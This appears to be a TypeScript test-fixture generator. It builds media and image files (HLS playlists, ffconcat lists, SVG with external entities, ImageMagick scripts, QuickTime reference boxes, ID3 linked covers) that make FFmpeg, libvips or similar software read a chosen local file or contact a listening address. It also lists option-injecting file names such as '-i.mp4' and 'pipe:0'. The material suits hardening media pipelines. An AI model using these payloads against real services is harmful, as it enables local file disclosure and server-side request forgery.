import { deflateSync } from 'node:zlib'

/** What a trick is to make someone open. */
export interface Bait {
  /** Path of a media file that is none of the reader's business. */
  readonly path: string
  /** A web address at which someone listens. */
  readonly address: string
}

type Part = Uint8Array | string | readonly number[]

const join = (...parts: readonly Part[]): Buffer => Buffer.concat(parts.map((part) => Buffer.from(part as Uint8Array)))

const u16 = (value: number): number[] => [value >> 8, value & 255]
const u32 = (value: number): number[] => [...u16(value >>> 16), ...u16(value & 0xffff)]

const box = (type: string, ...content: readonly Part[]): Buffer => {
  const inner = join(...content)
  return join(u32(inner.length + 8), type, inner)
}

const element = (id: string, ...content: readonly Part[]): Buffer => {
  const inner = join(...content)
  return join(Buffer.from(id, 'hex'), u32(0x10000000 | inner.length), inner)
}

const containers = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf'])

/** An MP4 or MOV file in which each box of a type is exchanged, with the sizes of those around it. */
function exchanged(movie: Buffer, type: string, by: Buffer): Buffer {
  const parts: Buffer[] = []
  for (let at = 0; at + 8 <= movie.length; ) {
    const size = movie.readUInt32BE(at)
    if (size < 8) break
    const [name, content] = [movie.toString('latin1', at + 4, at + 8), movie.subarray(at + 8, at + size)]
    if (name === type) parts.push(by)
    else parts.push(containers.has(name) ? box(name, exchanged(content, type, by)) : movie.subarray(at, at + size))
    at += size
  }
  return join(...parts)
}

/** A reference to data elsewhere, as Mac OS kept it: volume, file name, and the whole path as tag 2. */
const alias = (path: string): Buffer => {
  const padded = (text: string, length: number) => Buffer.alloc(length, 0).fill(text, 0, Math.min(length, text.length))
  const name = path.split('/').at(-1)!
  const relative = [u16(1), u16(1)]
  return join(
    u32(0),
    Buffer.alloc(10),
    [4],
    padded('disk', 27),
    Buffer.alloc(12),
    [Math.min(63, name.length)],
    padded(name, 63),
    Buffer.alloc(16),
    ...relative,
    Buffer.alloc(16),
    u16(2),
    u16(path.length),
    path,
    path.length % 2 === 1 ? [0] : [],
    u16(0xffff),
    u16(0),
  )
}

const reference = (entry: Buffer): Buffer => box('dref', u32(0), u32(1), entry)

/** A tag at the beginning of an MP3 whose picture is a link. */
const linkedCover = (address: string): Buffer => {
  const picture = join([0], '-->', [0, 3, 0], address)
  const frame = join('APIC', u32(picture.length), [0, 0], picture)
  const size = frame.length
  return join('ID3', [3, 0, 0], [(size >> 21) & 127, (size >> 14) & 127, (size >> 7) & 127, size & 127], frame)
}

const png = (text: string): Buffer => {
  const chunk = (type: string, content: Buffer) => join(u32(content.length), type, content, u32(0))
  return join(
    [0x89],
    'PNG\r\n\x1a\n',
    chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${text}`)),
    chunk('IDAT', deflateSync('x')),
  )
}

/**
 * Files that try to make their reader open something else.
 *
 * @param seeds whole files by name, some of which are changed
 */
export function tricks({ path, address }: Bait, seeds: ReadonlyMap<string, Buffer>): Map<string, Buffer> {
  const seed = (name: string): Buffer => seeds.get(name)!
  const movie = seed('mov.mpeg4-pcm')
  const mp3 = seed('mp3.plain')
  const matroska = seed('matroska.mpeg2-flac')
  const list = `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n`
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><photoshop:source href="${address}"/></x:xmpmeta>`
  const segment = matroska.indexOf(Buffer.from('18538067', 'hex')) + 12
  const neighbours = element(
    '1549a966',
    element('3e83bb', path),
    element('3c83ab', path),
    element('3eb923', Buffer.alloc(16, 1)),
    element('2ad7b1', [15, 66, 64]),
  )
  return new Map<string, Part>([
    ['hls-file.mp4', `${list}file:${path}\n#EXT-X-ENDLIST\n`],
    ['hls-address.ts', `${list}${address}/a.ts\n#EXT-X-ENDLIST\n`],
    ['hls-key.m3u8', `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${path}"\n#EXTINF:2,\n${address}\n`],
    ['hls-concat.mkv', `${list}concat:${path}|${path}\n`],
    ['hls-subfile.avi', `${list}subfile,,start,0,end,1000,,:${path}\n`],
    ['hls-behind-id3.mp3', join(linkedCover(address), `${list}file:${path}\n`)],
    ['hls-behind-mark.mp4', `\ufeff${list}${path}\n`],
    ['concat.mp4', `ffconcat version 1.0\nfile '${path}'\n`],
    ['dash.mp4', `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${address}</BaseURL></MPD>`],
    ['imf.mxf', `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"/>`],
    ['session.sdp', `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n`],
    ['stream.rtsp', address.replace('http', 'rtsp')],
    ['entities.svg', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${path}">]><svg>&x;</svg>`],
    [
      'image.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${path}"/><image href="${address}"/></svg>`,
    ],
    ['drawing.png', `push graphic-context\nimage over 0,0 0,0 '${path}'\npop graphic-context`],
    ['script.jpg', `<?xml version="1.0"?><image><read filename="${path}"/></image>`],
    ['redirect.asf', `[Reference]\r\nRef1=${address}\r\nRef2=file:${path}\r\n`],
    ['redirect.asx', `<asx version="3.0"><entry><ref href="${address}"/></entry></asx>`],
    ['list.pls', `[playlist]\nFile1=${path}\n`],
    ['script.avs', `AVISource("${path}")`],
    ['metadata.txt', `;FFMETADATA1\ntitle=${path}\n`],
    ['alias.mov', exchanged(movie, 'dref', reference(box('alis', alias(path))))],
    ['file-address.mov', exchanged(movie, 'dref', reference(box('url ', u32(0), `file://${path}\0`)))],
    ['web-address.mov', exchanged(movie, 'dref', reference(box('url ', u32(0), `${address}/a.mov\0`)))],
    ['name.mov', exchanged(movie, 'dref', reference(box('urn ', u32(0), `urn:x\0${path}\0`)))],
    [
      'reference.mov',
      join(
        box('ftyp', 'qt  ', u32(0), 'qt  '),
        box('moov', box('rmra', box('rmda', box('rdrf', u32(0), 'url ', u32(address.length + 1), `${address}\0`)))),
      ),
    ],
    [
      'compressed.mov',
      box('moov', box('cmov', box('dcom', 'zlib'), box('cmvd', u32(1000), deflateSync(Buffer.from(path))))),
    ],
    ['neighbours.mkv', join(matroska.subarray(0, segment), neighbours, matroska.subarray(segment))],
    ['linked-cover.mp3', join(linkedCover(address), mp3)],
    ['linked-cover-file.mp3', join(linkedCover(`file://${path}`), mp3)],
    ['metadata.png', png(xmp)],
    ['header-only.webm', join(element('1a45dfa3', element('4282', 'webm')), list, path)],
    ['skeleton.ogg', join(seed('ogg.vorbis'), `fishead\0${address}`)],
  ] satisfies [string, Part][])
    .entries()
    .reduce((map, [name, part]) => map.set(name, join(part)), new Map<string, Buffer>())
}

/** Whole files under names that mean something to FFmpeg or libvips. */
export const trickyNames = (path: string): readonly string[] => [
  `concat:${path.replaceAll('/', '_')}|x.mp4`,
  'subfile,,start,0,end,100,,:x.mp4',
  'data:video,mp4;x.mp4',
  'http:127.0.0.1.mp4',
  'image%03d.png',
  'frame.png[page=2]',
  'pipe:0.mp4',
  '-i.mp4',
]
